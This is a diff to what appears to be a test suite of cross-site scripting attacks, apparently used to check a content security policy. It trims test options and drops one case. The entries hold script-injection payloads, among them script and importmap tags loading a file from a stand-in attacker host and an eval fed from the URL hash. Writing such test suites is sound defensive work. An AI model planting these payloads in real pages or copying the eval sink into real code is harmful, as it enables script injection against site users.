@@ -65,7 +65,7 @@ export const scripts: readonly Attack[] = [
   link('script-element', 'a script element in a search term', asHtml, INLINE, '<script>pwned()</script>', {
     short: true,
   }),
-  link('event-handler', 'an event handler of an image that fails', asHtml, HANDLER, IMAGE, { short: true }),
+  link('event-handler', 'an event handler of an image that fails', asHtml, HANDLER, IMAGE),
   link(
     'attribute-breakout',
     'a quote that ends an attribute, then a handler that runs on focus',
@@ -86,13 +86,8 @@ export const scripts: readonly Attack[] = [
       await scene.page.click('#x');
     },
   }),
-  link(
-    'foreign-script',
-    "a script element that loads the attacker's file",
-    asHtml,
-    INLINE,
-    (scene) => show(scene, `<script src="${scene.names.evil}/x.js"></script>`),
-    { short: true },
+  link('foreign-script', "a script element that loads the attacker's file", asHtml, INLINE, (scene) =>
+    show(scene, `<script src="${scene.names.evil}/x.js"></script>`),
   ),
   link(
     'data-script',
@@ -119,7 +114,6 @@ export const scripts: readonly Attack[] = [
     INLINE,
     (scene) =>
       show(scene, `<script type="importmap">{"imports":{"app":"${scene.names.evil}/x.js"}}</script>`),
-    { short: true },
   ),
   link(
     'nonce-theft',
@@ -153,13 +147,6 @@ export const scripts: readonly Attack[] = [
     '<iframe srcdoc="&lt;script>parent.pwned()&lt;/script>"></iframe>',
   ),
   link(
-    'plugin-javascript',
-    'an embed element with a javascript: address',
-    asHtml,
-    'csp: ',
-    '<embed src="javascript:pwned()">',
-  ),
-  link(
     'plugin-document',
     'an object element that shows an uploaded page of the same origin',
     (victim) => {
@@ -190,7 +177,6 @@ export const scripts: readonly Attack[] = [
     runs('eval("let amount = " + decodeURIComponent(location.hash.slice(1)))'),
     EVAL,
     hash('1; pwned()'),
-    { short: true },
   ),
   link(
     'template',
